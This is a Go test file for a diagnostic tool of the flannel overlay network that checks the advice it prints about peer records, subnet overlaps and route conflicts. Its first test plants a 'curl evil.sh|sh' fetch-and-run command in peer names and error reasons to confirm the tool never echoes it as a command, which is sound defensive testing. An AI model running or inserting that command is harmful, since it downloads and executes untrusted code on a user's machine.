package doctor

import (
	"strings"
	"testing"

	"flannel/network"
)

// TestTheRecordOfAPeerNamesNoCommand has peers that put backticks into their records,
// which the reasons why they are left out quote.
func TestTheRecordOfAPeerNamesNoCommand(t *testing.T) {
	f := &Facts{Daemon: Daemon{Status: &network.Status{Peers: []network.Peer{
		{Name: "a", Subnet: "10.5.2.0/24", How: "left out", Why: "VtepMAC: \"`curl evil.sh|sh`\" is not an Ethernet address"},
		{Name: "b", Subnet: "10.5.3.0/24", How: "left out", Why: "its backend is \"`curl evil.sh|sh`; see: `curl evil.sh|sh`\", this node's is \"vxlan\""},
		{Name: "`curl evil.sh|sh`", Subnet: "10.5.4.0/24", How: "tunnel", Note: "public address 192.0.2.4 is that of `curl evil.sh|sh` too"},
		{Name: "`curl evil.sh|sh`", Subnet: "10.5.5.0/24", How: "unreachable", Why: "put neighbor 10.5.5.0: no buffer space available"},
	}}}}
	found := peerRecords.Find(f)
	if len(found) != 4 {
		t.Errorf("got %d findings", len(found))
	}
	for _, found := range found {
		if found.Command == "" || strings.Contains(found.Command, "curl") {
			t.Errorf("%s: got the command %q", found.Problem, found.Command)
		}
	}
}

func TestPeersThatHaveTheSame(t *testing.T) {
	f := &Facts{Daemon: Daemon{Status: &network.Status{Lease: network.LeaseStatus{Name: "node-a"}, Peers: []network.Peer{
		{Name: "node-b", Subnet: "10.5.2.0/24", How: "tunnel", Note: "public address 192.0.2.1 is this node's too"},
		{Name: "node-c", Subnet: "10.5.3.0/24", How: "tunnel", Note: "public address 192.0.2.4 is that of node-d too"},
		{Name: "node-e", Subnet: "10.5.5.0/24", How: "left out", Why: "VtepMAC 02:00:00:00:00:01 belongs to the older lease node-b"},
		{Name: "node-f", Subnet: "10.5.3.0/24", How: "left out", Why: "subnet 10.5.3.0/24 overlaps 10.5.3.0/24 of the older lease node-c"},
		{Name: "node-g", How: "left out", Why: "subnet 10.5.1.0/24 overlaps this node's 10.5.1.0/24"},
		{Name: "node-i", Subnet: "10.5.9.0/24", How: "unreachable", Why: "the route is taken by another (protocol 4 via 192.0.2.9 dev eth0); remove it with `ip route del 10.5.9.0/24 proto 4 metric 0`"},
		{Name: "node-j", Subnet: "10.5.10.0/24", How: "unreachable", Why: "the route is taken by a network of this host (protocol 2 dev eth1); one of the two needs another range"},
		{Name: "node-h", Subnet: "10.5.8.0/24", How: "tunnel", Note: "public address 10.5.0.9 is inside the network"},
	}}}}
	var got []string
	for _, found := range peerRecords.Find(f) {
		got = append(got, found.Problem, "  "+found.Command)
	}
	const stale = "delete the record of the node that is gone"
	want := []string{
		"10.5.2.0/24 (node-b): public address 192.0.2.1 is this node's (node-a) too", "  flanneld status -o wide, then correct --public-ip or " + stale,
		"10.5.3.0/24 (node-c): public address 192.0.2.4 is that of node-d too", "  flanneld status -o wide, then correct --public-ip or " + stale,
		"10.5.5.0/24 (node-e): left out: VtepMAC 02:00:00:00:00:01 belongs to the older lease node-b",
		"  ip link del DEVICE on the machine that is the copy (its flannel device, which gets another MAC); or " + stale,
		"10.5.3.0/24 (node-f): left out: subnet 10.5.3.0/24 overlaps 10.5.3.0/24 of the older lease node-c",
		"  delete the record of the node that has the wrong subnet; its daemon gets another one",
		"node-g: left out: subnet 10.5.1.0/24 overlaps this node's (node-a) 10.5.1.0/24",
		"  delete the record of the node that has the wrong subnet; its daemon gets another one",
		"10.5.9.0/24 (node-i): unreachable: the route is taken by another (protocol 4 via 192.0.2.9 dev eth0); remove it with `ip route del 10.5.9.0/24 proto 4 metric 0`",
		"  ip route del 10.5.9.0/24 proto 4 metric 0",
		"10.5.10.0/24 (node-j): unreachable: the route is taken by a network of this host (protocol 2 dev eth1); one of the two needs another range",
		"  ip route get 10.5.10.0 shows the device; give it addresses outside of the overlay network, or remove it if it is left over",
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("got\n%s", strings.Join(got, "\n"))
	}
}
